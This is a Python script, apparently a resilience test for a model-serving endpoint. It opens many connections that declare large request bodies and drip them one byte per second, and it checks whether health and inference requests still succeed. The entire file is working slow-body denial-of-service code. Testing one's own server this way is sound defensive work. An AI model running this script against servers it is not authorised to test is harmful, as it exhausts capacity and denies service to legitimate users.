"""Slow-body attack: N connections each send a complete request head declaring a body, then
drip it. Does each hold a load-shedding slot (requests in flight) for body_timeout?

Usage: slow_body.py HOST PORT ATTACK_KEY|- VICTIM_KEY N PATH [seconds]
ATTACK_KEY '-' sends no credentials.
"""

import http.client
import os
import socket
import sys
import time
from pathlib import Path

HOST, PORT, AKEY, VKEY, N, PATH = (
    sys.argv[1],
    int(sys.argv[2]),
    sys.argv[3],
    sys.argv[4],
    int(sys.argv[5]),
    sys.argv[6],
)
SECONDS = float(sys.argv[7]) if len(sys.argv) > 7 else 10
auth = b"" if AKEY == "-" else f"Authorization: Bearer {AKEY}\r\n".encode()
head = (
    f"POST {PATH} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n".encode()
    + auth
    + b"\r\n{"
)
socks = []
for _ in range(N):
    s = socket.create_connection((HOST, PORT))
    s.sendall(head)
    socks.append(s)
time.sleep(0.5)
body = Path(os.environ.get("REQUEST_JSON", "demo/request.json")).read_text()
bad = 0
t_end = time.monotonic() + SECONDS
while time.monotonic() < t_end:
    for path, b, h in [
        ("/v2/health/live", None, {}),
        ("/v2/models/breast-cancer/infer", body, {"Authorization": f"Bearer {VKEY}"}),
    ]:
        t0 = time.monotonic()
        try:
            c = http.client.HTTPConnection(HOST, PORT, timeout=5)
            c.request("GET" if b is None else "POST", path, body=b, headers=h)
            r = c.getresponse()
            d = r.read()
            st = r.status
        except Exception as e:
            st, d = 0, repr(e).encode()
        dt = time.monotonic() - t0
        ok = st == 200 and dt < 1
        bad += not ok
        print(
            path,
            st,
            f"{dt * 1000:.0f} ms",
            "OK" if ok else "FAIL " + d[:150].decode(errors="replace"),
            flush=True,
        )
    for s in socks:
        try:
            s.sendall(b" ")
        except OSError:
            pass
    time.sleep(1)
for s in socks:
    s.close()
sys.exit(1 if bad else 0)
